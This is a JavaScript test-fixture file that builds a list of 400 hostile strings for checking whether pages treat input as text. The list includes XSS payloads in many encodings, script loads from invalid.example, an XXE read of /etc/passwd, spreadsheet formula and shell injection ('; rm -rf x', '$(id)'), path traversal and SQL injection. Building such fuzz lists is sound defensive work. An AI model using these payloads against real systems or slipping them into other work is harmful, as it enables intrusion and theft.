// SPDX-License-Identifier: Apache-2.0

// 400 strings that would do something if a page took them for more than text: shapes that are known to
// everybody, put together here. Each tries to set window.stolen, to load something or to be invisible.

const RUN = 'window.stolen=1';

const HANDLERS = ['onerror', 'onload', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onanimationstart', 'onbegin', 'onpointerenter', 'oncut'];

const TAGS = [
    (handler) => `<img src=x ${handler}=${RUN}>`,
    (handler) => `<svg ${handler}=${RUN}>`,
    (handler) => `<body ${handler}="${RUN}">`,
    (handler) => `<details open ${handler}='${RUN}'>x`,
    (handler) => `<input autofocus ${handler}=${RUN}>`,
    (handler) => `<video><source ${handler}="${RUN}"></video>`,
    (handler) => `<math ${handler}=${RUN}>`,
    (handler) => `<marquee ${handler}=${RUN}>`,
    (handler) => `<IMG SRC="x" ${handler.toUpperCase()}="${RUN}">`,
    (handler) => `<img/src="x"/${handler}=${RUN}//`,
];

// What a text could be inside, and so has to leave first.
const ESCAPES = ['">', '\'>', '</script>', '</title>', '</textarea>', '</style>', '-->', ']]>', '</svg>', '</select>', '</td></table>', '\\">', '\';', '");', '`', '</noscript>'];

const BODIES = [
    `<script>${RUN}</script>`, `<img src=x onerror=${RUN}>`, `<iframe srcdoc="<script>parent.${RUN.slice(7)}</script>">`,
    `<a href="javascript:${RUN}">x</a>`, `<link rel=stylesheet href=https://invalid.example/x>`, `<base href="https://invalid.example/">`,
    `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<object data="javascript:${RUN}">`, `<embed src="data:text/html,<script>${RUN}</script>">`,
    `<form action="javascript:${RUN}"><button>`,
];

const LINKS = [
    'javascript:', 'JaVaScRiPt:', 'java\tscript:', 'java\nscript:', ' javascript:', '\u0001javascript:', 'javascript&colon;', 'java&#115;cript:',
    'vbscript:', 'data:text/html,', 'data:text/html;base64,', 'javascript:/*--></title>*/', 'javascript://%0a', 'view-source:javascript:',
];

const ENCODINGS = [
    (text) => encodeURIComponent(text),
    (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
    (text) => text.replaceAll('<', '&#60;').replaceAll('>', '&#x3e;'),
    (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
    (text) => text.replaceAll('<', '\\x3c').replaceAll('>', '\\x3e'),
    (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
    (text) => text.replaceAll('<', '<\0'),
    (text) => text.replaceAll('<', '\uFF1C').replaceAll('>', '\uFF1E'),
    (text) => [...text].join('\u200B'),
    (text) => `\u202E${text}\u202C`,
    (text) => `\uFEFF${text}`,
    (text) => text.replace(' ', '\f'),
    (text) => text.replaceAll('<', '<<'),
    (text) => text.toUpperCase(),
];

const OTHERS = [
    // Markup of other languages, templates, expressions.
    `\${${RUN}}`, `{{${RUN}}}`, `{{constructor.constructor('${RUN}')()}}`, `<%= ${RUN} %>`, `#{${RUN}}`, `[[${RUN}]]`, `@DOCUMENT@`, `@MODULES@`, `$&`, `$1`, `$\``,
    `\\"+${RUN}+\\"`, `"+${RUN}+"`, `'+${RUN}+'`, `";${RUN};//`, `';${RUN};//`, `*/${RUN}/*`, `\`+${RUN}+\``, `\n${RUN}\n`, `\\n${RUN}`,
    `<style>@import "https://invalid.example/x";</style>`, `<div style="background:url(https://invalid.example/x)">`, `<div style=width:expression(${RUN})>`,
    `};*{display:none}`, `</style><style>*{display:none}</style>`, `<!--`, `<!-- <script>`, `--!>`, `<![CDATA[`, `<?xml version="1.0"?>`, `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;`,
    `<template><script>${RUN}</script></template>`, `<slot onslotchange=${RUN}>`, `<portal src="https://invalid.example/">`, `<script src=https://invalid.example/x></script>`,
    `<script type=module>${RUN}</script>`, `<script>eval(name)</script>`, `<isindex action=javascript:${RUN}>`, `<svg><script>${RUN}</script></svg>`,
    `<svg><animate onbegin=${RUN} attributeName=x>`, `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`, `<svg><foreignObject><body onload=${RUN}>`,
    `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`, `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<img srcset="https://invalid.example/x 1x">`,
    // Names that objects have by themselves.
    '__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf', '__defineGetter__', 'then', 'length', 'undefined', 'null', 'NaN', 'true', '[object Object]',
    // Characters that are not seen, or change the direction of others.
    '\u202Egnp.exe', '\u2066\u2067\u2068\u2069', '\u061C\u200E\u200F', '\u200B\u200C\u200D\u2060', '\u00AD\u034F\u115F', '\u2028\u2029', '\0\x01\x02\x1F', '\x7F\x80\x9F', '\r\n\r\nSet-Cookie: x=1',
    '\x1B[31mred\x1B[0m', '\x1B]0;title\x07', '\uFEFF', '\uFFFD', '\uD800', '\uDFFF', '\uDBFF\uDC00', 'a\u0301\u0302\u0303', '\u{E0041}\u{E007F}', '\u{1F468}\u200D\u{1F469}', '\u0338'.repeat(9),
    // What spreadsheets and shells take for more than text, and sheer length.
    `=HYPERLINK("https://invalid.example/","x")`, `+1+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd`, `-2+3`, '; rm -rf x', '$(id)', '`id`', '| cat', '../../etc/passwd', '%00%0a%0d', "' OR '1'='1", '%s%n%x', 'x'.repeat(3000), '<'.repeat(500), '&'.repeat(300),
];

const all = [
    ...TAGS.flatMap((tag) => HANDLERS.map(tag)),
    ...ESCAPES.flatMap((escape, index) => BODIES.filter((_, body) => (body + index) % 2 === 0).map((body) => escape + body)),
    ...LINKS.flatMap((link) => [link + RUN, `<a href="${link}${RUN}">x</a>`]),
    ...ENCODINGS.flatMap((encode) => BODIES.slice(0, 4).map(encode)),
    ...BODIES,
    ...OTHERS,
    ...HANDLERS.map((handler) => `x" ${handler}="${RUN}`), ...HANDLERS.map((handler) => `x' ${handler}='${RUN}`),
    ...HANDLERS.map((handler) => `" autofocus tabindex=1 ${handler}=${RUN} x="`), ...HANDLERS.map((handler) => `<x ${handler}=${RUN}>`),
];

export const HOSTILE = [...new Set(all)].slice(0, 400);
